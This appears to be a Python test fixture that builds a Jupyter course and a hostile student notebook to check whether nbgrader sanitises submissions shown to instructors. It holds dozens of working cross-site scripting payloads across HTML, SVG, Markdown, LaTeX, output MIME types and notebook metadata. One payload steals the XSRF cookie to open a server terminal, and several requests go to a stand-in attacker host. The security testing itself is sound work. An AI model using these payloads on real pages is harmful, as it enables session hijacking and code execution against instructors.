"""What a learner may put into a notebook to act on the page of the instructor who looks at it.

Each attack calls `window.pwned.push(its name)` where it works (`HIT`), or asks for an address of `AWAY`.
"""

# ruff: noqa: E501 (an attack is read in one piece)

from __future__ import annotations

import json
from collections.abc import Collection
from pathlib import Path

NAME = "attacked"
AWAY = "http://attacker.invalid"
CONFIG = 'c = get_config()\nc.CourseDirectory.course_id = "attacked"\n'
TERMINAL = (
    "fetch('/api/terminals',{method:'POST',headers:{'X-XSRFToken':"
    "(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]}})"
)


def hit(name: str) -> str:
    """JavaScript that tells of itself, without a quote of either kind but the single one."""
    return f"(window.pwned=window.pwned||[]).push('{name}')"


def svg(name: str) -> str:
    return (
        f"""<svg xmlns="http://www.w3.org/2000/svg" onload="{hit(name)}"><script>{hit(name)}</script></svg>"""
    )


HTML = {
    "script": f"<script>{hit('script')}</script>",
    "mathjax-config": f"""<script type="text/x-mathjax-config">{hit("mathjax-config")}</script>""",
    "terminal": f"<script>{TERMINAL}.then(r=>r.ok&&{hit('terminal')})</script>",
    "onerror": f"""<img src=x onerror="{hit("onerror")}">""",
    "onerror-split": f"""<img src=x\nonerror\n=\n"{hit("onerror-split")}"\n>""",
    "slashes": f"""<img/src=x/onerror="{hit("slashes")}">""",
    "case": f"""<ScRiPt>{hit("case")}</sCrIpT>""",
    "svg-onload": svg("svg-onload"),
    "svg-animate": f"""<svg><animate onbegin="{hit("svg-animate")}" attributeName=x dur=1s></svg>""",
    "srcdoc": f"""<iframe srcdoc="<script>parent.{hit("srcdoc")[1:].replace("window", "parent.window")}</script>"></iframe>""",
    "iframe-away": f"""<iframe src="{AWAY}/iframe-away"></iframe>""",
    "autofocus": f"""<input autofocus onfocus="{hit("autofocus")}">""",
    "details": f"""<details open ontoggle="{hit("details")}"><summary>s</summary>x</details>""",
    "animation": f"""<style>@keyframes k{{}}</style><b style="animation:k 1s" onanimationstart="{hit("animation")}">b</b>""",
    "video": f"""<video><source onerror="{hit("video")}"></video>""",
    "body": f"""<body onload="{hit("body")}" onpageshow="{hit("body")}">""",
    "comment": f"""<!--><img src=x onerror="{hit("comment")}">-->""",
    "mutation": f"""<noscript><p title="</noscript><img src=x onerror={hit("mutation")}>"></noscript>""",
    "math": f"""<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={hit("math")}&gt;">""",
    "css-import": f"<style>@import url({AWAY}/css-import);</style>",
    "css-url": f"""<div style="background:url({AWAY}/css-url)">x</div>""",
    "picture": f"""<img src="{AWAY}/picture">""",
    "srcset": f"""<img srcset="{AWAY}/srcset 1x">""",
    "link": f"""<link rel=stylesheet href="{AWAY}/link">""",
    "preload": f"""<link rel=preload as=image href="{AWAY}/preload">""",
    "object": f"""<object data="{AWAY}/object"></object><embed src="{AWAY}/embed">""",
    "refresh": f"""<meta http-equiv="refresh" content="1;url={AWAY}/refresh">""",
    "base": f"""<base href="{AWAY}/base/"><img src="base.png">""",
    "form": f"""<form id=f action="{AWAY}/form"><button>Full credit</button></form>""",
    "formaction": f"""<button form=f formaction="javascript:{hit("formaction")}">x</button>""",
    "href": f"""<a href="javascript:{hit("href")}">click</a>""",
    "href-entity": f"""<a href="jav&#x61;s&Tab;cript:{hit("href-entity")}">click</a>""",
    "href-data": """<a href="data:text/html,<script>1</script>">click</a>""",
    "data-link": """<a data-link="../../x">click</a><i data-toggle="tooltip" data-html="true" title="<img>">t</i>""",
}
"""Also put into Markdown, where raw HTML is HTML."""

MARKDOWN = {
    "md-javascript": f"[click](javascript:{hit('md-javascript')})",
    "md-link-entity": "[click](java&#115;cript&colon;alert(1))",
    "md-link-angle": "[click](<javascript:alert(1)>)",
    "md-reference": "[click][r]\n\n[r]: javascript:alert(1)",
    "md-own-page": "[click](evil.html) [click](./evil.svg) [click](evil.%68tml#.png)",
    "md-formgrader": "[click](/formgrader/manage_submissions/%22;alert(1);%22.png)",
    "md-picture": f"![x]({AWAY}/md-picture)",
    "md-picture-reference": f"![x][p]\n\n[p]: {AWAY}/md-picture-reference",
    "md-mermaid": f"""```mermaid\n<img src=x onerror="{hit("md-mermaid")}">\n```""",
    "md-formula": f"""$a<img src=x onerror="{hit("md-formula")}">$ $$<script>{hit("md-formula")}</script>$$""",
    "md-code": f"""`<img src=x onerror="{hit("md-code")}">` and <img alt="`" src=x onerror="{hit("md-code")}">""",
    "md-unbalanced": "</div></div></div><p>outside <div>",
    "md-attachment": "![x](attachment:a.png)",
    "md-tex": r"$\href{javascript:alert(1)}{x}$ $\require{html}\class{nbgrader_cell}{y}$ $\style{color:red}{z}$",
    "md-tex-entity": r"$&#92;href{javascript:alert(1)}{x}$",
    "md-unseen": "[click](java\x00script:alert(1)) <\x00script>1</script>",
}
ATTACHMENTS = {"a.png": {f'image/png" onerror="{hit("attachment")}': "AAAA", "text/html": "PHNjcmlwdD4="}}

SHOWN = {
    "javascript": ("application/javascript", hit("javascript")),
    "ecmascript": ("text/javascript", hit("ecmascript")),
    "svg": ("image/svg+xml", svg("svg")),
    "latex": ("text/latex", r"$\href{javascript:alert(1)}{x}$</div><img src=x onerror=" + hit("latex") + ">"),
    "markdown": ("text/markdown", f"""<img src=x onerror="{hit("markdown")}"> [c](javascript:1)"""),
    "mermaid": ("text/vnd.mermaid", f"""<img src=x onerror="{hit("mermaid")}">"""),
    "png": ("image/png", f"""AA" onerror="{hit("png")}"""),
    "unknown": ("application/x-unknown+html", f"<script>{hit('unknown')}</script>"),
    "no-type": ("<script>", f"<script>{hit('no-type')}</script>"),
    "ansi": ("text/plain", f"\x1b[31m<img src=x onerror={hit('ansi')}>\x1b]8;;javascript:alert(1)\x07x"),
}
"""Outputs by MIME type, besides those of `HTML`."""

_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
HONEST = f"""from IPython.display import display, HTML, Image, Math
import base64
display(HTML('<div><style scoped>b{{color:red}}</style><table border="1" class="dataframe"><tr><th>mean</th></tr>'
             '<tr style="text-align: right;"><td>4.25</td></tr></table></div>'))
display(Image(base64.b64decode(b'{_PNG}')), metadata={{'width': 40, 'height': 40}})
display(Math(r'\\frac{{1}}{{2}}'))
"""


def _cell(kind: str, name: str, source: str, nbgrader: dict[str, object] | None = None) -> dict[str, object]:
    metadata = {"nbgrader": {"schema_version": 3, "cell_type": kind, **nbgrader}} if nbgrader else {}
    code = {"outputs": [], "execution_count": None} if kind == "code" else {}
    return {"cell_type": kind, "id": name, "metadata": metadata, "source": source, **code}


def _keys(name: str, **more: object) -> dict[str, object]:
    return {"grade_id": name, "grade": False, "solution": False, "locked": False, "task": False, **more}


def _graded(answer: str, essay: str) -> list[dict[str, object]]:
    return [
        _cell("markdown", "intro", "Look: <b class='mine'>teacher's own</b> $x^2$"),
        _cell("code", "num-answer", answer, _keys("num-answer", solution=True)),
        _cell("code", "num", "assert num == 6", _keys("num", grade=True, locked=True, points=1)),
        _cell("markdown", "essay", essay, _keys("essay", grade=True, solution=True, points=3)),
    ]


def _notebook(cells: list[dict[str, object]], **metadata: object) -> str:
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    whole = {
        "cells": cells,
        "metadata": {"kernelspec": kernel, **metadata},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    return json.dumps(whole)


def write_course(root: Path) -> None:
    """A course with one assignment: a number, which is tested, and a text, which a person marks."""
    (root / "source" / NAME).mkdir(parents=True)
    (root / "nbgrader_config.py").write_text(CONFIG)
    cells = _graded("### BEGIN SOLUTION\nnum = 6\n### END SOLUTION", "Your answer")
    (root / "source" / NAME / f"{NAME}.ipynb").write_text(_notebook(cells))


def hand_in(root: Path, student: str, without: Collection[str] = ()) -> None:
    """A submission that holds every attack but some, and things that must stay readable."""
    html = {name: text for name, text in HTML.items() if name not in without}
    shown = {f"html-{name}": ("text/html", text) for name, text in html.items()} | SHOWN
    folder = root / "submitted" / student / NAME
    folder.mkdir(parents=True)
    shows = "\n".join(f"display({{{kind!r}: {text!r}}}, raw=True)" for kind, text in shown.values())
    metadata = {
        "isolated": True,
        "filenames": {"image/png": f"{AWAY}/filename"},
        "width": f"1 onload={hit('width')}",
    }
    shows += f"\ndisplay({{'image/png': {_PNG!r}}}, raw=True, metadata={{'image/png': {metadata!r}, **{metadata!r}}})"
    printed = f"<img src=x onerror={hit('printed')}>"
    shows += f"\nprint({printed!r})"
    answer = f"from IPython.display import display\n{shows}\nnum = 5"
    cells = _graded(answer, f"My essay, **in bold**. <script>{hit('essay')}</script>")
    cells.append(_cell("code", "honest", HONEST))
    for name, text in {**{f"md-{name}": text for name, text in html.items()}, **MARKDOWN}.items():
        cell = _cell("markdown", name, f"{name}:\n\n{text}")
        cell["attachments"] = ATTACHMENTS if name == "md-attachment" else {}
        cells.append(cell)
    raw = _cell("raw", "raw", f"<script>{hit('raw')}</script>")
    raw["metadata"] = {"raw_mimetype": "text/html"}
    odd = _cell(
        "code",
        f'x"><script>{hit("id")}</script>',
        "1",
        _keys(f'x"><script>{hit("grade-id")}</script>', grade=True),
    )
    odd["execution_count"] = f"<script>{hit('count')}</script>"
    odd["metadata"] |= {
        "tags": [f'"><script>{hit("tag")}</script>'],
        "magics_language": f'"><script>{hit("magics")}</script>',
    }
    script = f"</script><script>{hit('metadata')}</script>"
    state = {"state": {"a": {"model_name": script}}, "version_major": 2, "version_minor": 0}
    text = _notebook(
        [*cells, raw, odd],
        title=f"</title>{script}",
        widgets={"application/vnd.jupyter.widget-state+json": state},
        language_info={"name": "python", "pygments_lexer": f'"><script>{hit("lexer")}</script>'},
    )
    (folder / f"{NAME}.ipynb").write_text(text)
    (folder / "evil.html").write_text(f"<script>{TERMINAL}</script>")
    (folder / "evil.svg").write_text(svg("file"))
